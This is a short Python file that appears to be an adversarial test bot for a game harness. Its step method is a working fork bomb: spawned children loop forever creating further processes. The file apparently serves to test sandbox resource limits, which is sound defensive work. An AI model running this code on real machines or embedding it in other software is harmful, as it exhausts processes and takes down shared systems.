"""Forks as fast as it can (ignoring errors), then reports how many forks succeeded."""
import os


class Bot:
    def __init__(self, game, seat, seed):
        pass

    def step(self, state, limit):
        made = 0
        for _ in range(200):
            try:
                if os.fork() == 0:
                    while True:
                        try:
                            os.fork()
                        except OSError:
                            pass
                made += 1
            except OSError as exc:
                err = exc
        raise RuntimeError(f"forks that succeeded: {made}")
